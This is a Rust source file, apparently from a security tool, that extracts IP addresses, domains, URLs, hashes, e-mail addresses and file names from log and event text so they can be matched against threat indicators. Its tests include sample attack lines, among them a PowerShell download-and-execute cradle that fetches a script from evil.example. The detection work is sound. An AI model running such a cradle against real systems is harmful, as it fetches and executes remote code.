//! Finds what an event's value may be looked up as.

use crate::Kind;
use crate::value::{address_bits, domain_text, file_name, host_and_port, url_text};
use std::net::IpAddr;

/// Something to look up.
pub(crate) enum Probe<'a> {
    /// An address.
    Address(u128),
    /// A domain in lower case and ASCII: it and every name above it.
    Domain(&'a str),
    /// Any other value in its one spelling.
    Value(Kind, &'a str),
}

/// The address at the whole of `text`, with or without a port, brackets or a zone.
pub(crate) fn address(text: &str) -> Option<IpAddr> {
    let text = text.trim();
    let first = text.as_bytes().first()?;
    if !(first.is_ascii_hexdigit() || matches!(first, b'[' | b':')) {
        return None;
    }
    let plain = text.split('%').next().unwrap_or(text);
    if let Ok(address) = plain.parse() {
        return Some(address);
    }
    // With a port: `203.0.113.9:80` or `[2001:db8::1]:80`.
    host_and_port(text)?.0.split('%').next()?.parse().ok()
}

/// An address or a domain, where a column holds one of both.
pub(crate) fn host(text: &str, probe: &mut impl FnMut(Probe<'_>)) {
    // Lists, as of answers: `93.184.216.34;::ffff:1.2.3.4;type: 5 alias.example;`
    for part in text.split([';', ',', ' ', '"']).filter(|part| !part.is_empty()) {
        match address(part) {
            Some(found) => probe(Probe::Address(address_bits(found))),
            None => {
                if let Some(domain) = domain_text(part) {
                    probe(Probe::Domain(&domain));
                }
            }
        }
    }
}

/// A web address, or the host of one.
pub(crate) fn url(text: &str, probe: &mut impl FnMut(Probe<'_>)) {
    let Some(url) = url_text(text) else { return };
    probe(Probe::Value(Kind::Url, &url));
    // An indicator without a query covers what is asked of the same page.
    if let Some((page, _)) = url.split_once('?') {
        probe(Probe::Value(Kind::Url, page));
    }
    let Some((_, rest)) = url.split_once("://") else { return };
    let authority = rest.split('/').next().unwrap_or_default();
    if let Some((name, _)) = host_and_port(authority) {
        host(name, probe);
    }
}

/// Hashes, alone or as `SHA256=...,IMPHASH=...`.
pub(crate) fn hashes(text: &str, column: &str, probe: &mut impl FnMut(Probe<'_>)) {
    for part in text.split([',', ';', ' ', '|', '\n', '\t']) {
        let (name, value) = part.rsplit_once(['=', ':']).unwrap_or((column, part));
        hash(name, value.trim(), probe);
    }
}

fn hash(name: &str, value: &str, probe: &mut impl FnMut(Probe<'_>)) {
    let Some(kind) = Kind::of_hash(value.len()) else { return };
    if !value.bytes().all(|byte| byte.is_ascii_hexdigit()) {
        return;
    }
    let value = value.to_ascii_lowercase();
    let imphash = name.len() >= 7 && name.to_ascii_lowercase().ends_with("imphash");
    probe(Probe::Value(if imphash && kind == Kind::Md5 { Kind::Imphash } else { kind }, &value));
}

/// An e-mail address, alone or as `Name <name@example>`.
pub(crate) fn email(text: &str, probe: &mut impl FnMut(Probe<'_>)) {
    for part in text.split([' ', ',', ';', '<', '>', '"']) {
        if let Some((name, domain)) = part.rsplit_once('@')
            && !name.is_empty()
            && let Some(domain) = domain_text(domain)
        {
            probe(Probe::Value(Kind::Email, &format!("{}@{domain}", name.to_lowercase())));
        }
    }
}

/// What free text names: web addresses, addresses, hashes, e-mail addresses, domains, file names.
/// Time and memory grow with the length of the text only.
pub(crate) fn text(text: &str, wanted: u32, probe: &mut impl FnMut(Probe<'_>)) {
    let wants = |kinds: &[Kind]| kinds.iter().any(|kind| wanted & kind.bit() != 0);
    let separates = |c: char| {
        c.is_whitespace()
            || matches!(
                c,
                '"' | '\''
                    | '`'
                    | '<'
                    | '>'
                    | '('
                    | ')'
                    | '{'
                    | '}'
                    | ','
                    | ';'
                    | '|'
                    | '「'
                    | '」'
                    | '、'
                    | '。'
            )
    };
    let hosts = wants(&[Kind::Ip, Kind::Domain]);
    let hashed = wants(&[Kind::Md5, Kind::Sha1, Kind::Sha256, Kind::Sha512, Kind::Imphash]);
    for token in text.split(separates).filter(|token| token.len() >= 3) {
        if let Some(at) = memchr::memmem::find(token.as_bytes(), b"://") {
            let start = token
                .get(..at)
                .and_then(|head| head.rfind(|c: char| !c.is_ascii_alphanumeric()))
                .map_or(0, |before| before + 1);
            let end = |c: char| matches!(c, '.' | ']' | '!' | '\\');
            if let Some(found) = token.get(start..).map(|found| found.trim_end_matches(end)) {
                url(found, probe);
            }
            continue;
        }
        if hashed && token.len() >= 32 {
            for part in token.split(['=', ':', '[', ']', '/', '\\']) {
                let name = token.split(['=', ':']).next().unwrap_or_default();
                hash(name, part, probe);
            }
        }
        let marked = |byte: u8| memchr::memchr(byte, token.as_bytes()).is_some();
        if wants(&[Kind::Email]) && marked(b'@') {
            email(token.trim_matches(['.', '[', ']', ':', '=']), probe);
        }
        if wants(&[Kind::FileName]) && marked(b'.') {
            let name = file_name(token).to_lowercase();
            let name = name.rsplit_once(['=', ':']).map_or(&*name, |(_, name)| name);
            probe(Probe::Value(Kind::FileName, name));
        }
        if hosts && (marked(b'.') || marked(b':')) {
            let whole = address(token.trim_matches(['.', '=']));
            if let Some(found) = whole.or_else(|| address(token.trim_matches(['[', ']']))) {
                probe(Probe::Address(address_bits(found)));
                continue;
            }
            // `outside:203.0.113.9/443`, `rhost=203.0.113.9`, `\\203.0.113.9\share`, `a@evil.example`
            for part in token.split(['/', ':', '=', '[', ']', '\\', '@', '#', '?', '&']) {
                let part = part.trim_matches(['.', '-', '_']);
                if part.len() < 4 || !part.contains('.') {
                    continue;
                }
                match address(part) {
                    Some(found) => probe(Probe::Address(address_bits(found))),
                    None => {
                        if let Some(domain) = domain_text(part) {
                            probe(Probe::Domain(&domain));
                        }
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn found(line: &str) -> Vec<String> {
        let mut list = Vec::new();
        text(line, u32::MAX, &mut |probe| {
            list.push(match probe {
                Probe::Address(bits) => {
                    let address = IpAddr::from(std::net::Ipv6Addr::from_bits(bits)).to_canonical();
                    format!("address {address}")
                }
                Probe::Domain(domain) => format!("domain {domain}"),
                Probe::Value(kind, value) => format!("{kind} {value}"),
            });
        });
        list
    }

    #[test]
    fn text_names_what_it_names() {
        for (line, what) in [
            ("Failed password for root from 203.0.113.9 port 22 ssh2", "address 203.0.113.9"),
            (
                "%ASA-6-302013: Built outbound TCP for outside:203.0.113.9/443",
                "address 203.0.113.9",
            ),
            ("rhost=203.0.113.9.", "address 203.0.113.9"),
            ("from [2001:db8::1]:443", "address 2001:db8::1"),
            (
                "IEX (New-Object Net.WebClient).DownloadString('http://Evil.example/a.ps1')",
                "url http://evil.example/a.ps1",
            ),
            ("IEX ... ('http://evil.example/a.ps1')", "domain evil.example"),
            ("curl https://203.0.113.9:8443/x?y=1", "address 203.0.113.9"),
            ("query: evil.example. IN A", "domain evil.example"),
            (
                "sha256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
                "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            ),
            ("to=<Bad@Evil.example>, relay=x", "email bad@evil.example"),
            ("C:\\Windows\\Temp\\Evil.exe -x", "file-name evil.exe"),
            ("通信先は「evil.example」です", "domain evil.example"),
        ] {
            let found = found(line);
            assert!(found.iter().any(|one| one == what), "{line} gave {found:?}");
        }
    }

    #[test]
    fn sysmon_hashes_are_told_apart() {
        let mut list = Vec::new();
        let line = "MD5=00000000000000000000000000000001,IMPHASH=00000000000000000000000000000002";
        hashes(line, "Hashes", &mut |probe| {
            if let Probe::Value(kind, value) = probe {
                list.push((kind, value.to_owned()));
            }
        });
        assert_eq!(list.len(), 2);
        assert_eq!((list[0].0, &*list[0].1), (Kind::Md5, "00000000000000000000000000000001"));
        assert_eq!((list[1].0, &*list[1].1), (Kind::Imphash, "00000000000000000000000000000002"));
    }

    proptest! {
        #[test]
        fn hostile_text_never_panics(line in "\\PC{0,200}|[a-f0-9.:/@=\\[\\]%\\\\ -]{0,200}") {
            found(&line);
            host(&line, &mut |_| {});
            url(&line, &mut |_| {});
            hashes(&line, "x", &mut |_| {});
            email(&line, &mut |_| {});
        }
    }
}
